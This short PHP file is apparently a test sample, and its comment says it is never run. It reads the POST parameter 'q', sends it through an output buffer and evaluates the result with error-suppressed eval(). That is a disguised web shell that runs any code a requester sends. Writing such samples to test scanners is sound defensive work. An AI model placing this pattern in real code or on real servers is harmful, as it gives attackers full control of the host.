<?php
// request input printed into an output buffer and evaluated from there (written for the
// tests, never run)
ob_start();
echo $_POST['q'];
$out = ob_get_clean();
@eval($out);
